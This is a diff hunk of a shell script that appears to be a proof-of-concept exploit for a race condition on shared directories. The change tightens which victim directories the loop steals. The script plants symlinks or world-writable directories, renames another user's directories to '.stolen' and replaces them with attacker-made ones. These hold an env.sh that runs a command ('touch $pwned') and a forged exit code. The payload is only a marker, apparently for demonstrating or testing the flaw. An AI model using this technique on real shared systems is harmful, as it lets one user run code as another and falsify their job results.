@@ -29,7 +29,8 @@ while :; do
     if [ $((r % 2)) = 0 ]; then ln -s "$evil" "$work" 2>/dev/null; else mkdir -m 777 "$work" 2>/dev/null; fi
   fi
   for j in "$evil"/* "$work"/*; do
-    [ -d "$j" ] || continue
+    # A directory of someone else's (the victim's): never the attacker's own, nor a link.
+    [ -d "$j" ] && [ ! -L "$j" ] && [ ! -O "$j" ] || continue
     case $j in *.stolen) continue ;; esac
     if mv "$j" "$j.stolen" 2>/dev/null; then
       mkdir -m 777 "$j" && printf 'touch %s\\n' "$pwned" > "$j/env.sh" && echo 42 > "$j/exit-code"
